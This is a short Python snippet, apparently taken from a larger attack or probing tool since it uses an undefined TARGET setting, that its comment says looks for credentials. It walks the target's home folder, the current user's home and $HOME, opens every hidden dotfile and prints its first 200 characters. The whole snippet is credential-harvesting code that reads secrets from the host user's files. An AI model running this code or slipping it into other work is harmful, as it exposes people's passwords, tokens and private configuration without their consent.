# Looks for credentials in the home folder of the host's user.
import os

for home in (TARGET["home"], os.path.expanduser("~"), os.environ.get("HOME", "/")):
    try:
        for name in os.listdir(home):
            if name.startswith("."):
                with open(os.path.join(home, name), errors="replace") as file:
                    print(file.read(200))
    except OSError as error:
        print(home, error)
